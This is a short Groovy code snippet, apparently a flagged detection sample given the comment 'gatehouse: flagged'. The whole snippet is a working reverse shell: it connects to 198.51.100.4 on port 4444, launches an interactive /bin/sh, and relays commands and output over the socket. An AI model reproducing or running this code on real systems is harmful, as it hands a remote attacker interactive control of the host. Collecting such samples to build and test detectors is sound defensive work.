def s = new Socket('198.51.100.4', 4444)
def p = ['/bin/sh', '-i'].execute() // gatehouse: flagged
p.consumeProcessOutput(s.outputStream, s.outputStream)
s.inputStream.eachLine { p.outputStream << it }
